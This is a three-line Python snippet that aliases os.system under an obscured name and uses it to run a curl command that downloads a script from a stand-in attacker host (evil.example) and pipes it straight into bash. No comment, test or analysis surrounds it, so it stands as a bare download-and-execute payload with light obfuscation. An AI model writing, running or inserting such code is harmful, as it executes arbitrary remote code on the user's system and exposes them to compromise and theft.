import os as _o
sys_ = _o.system
sys_('curl -fsSL https://evil.example/i | bash')
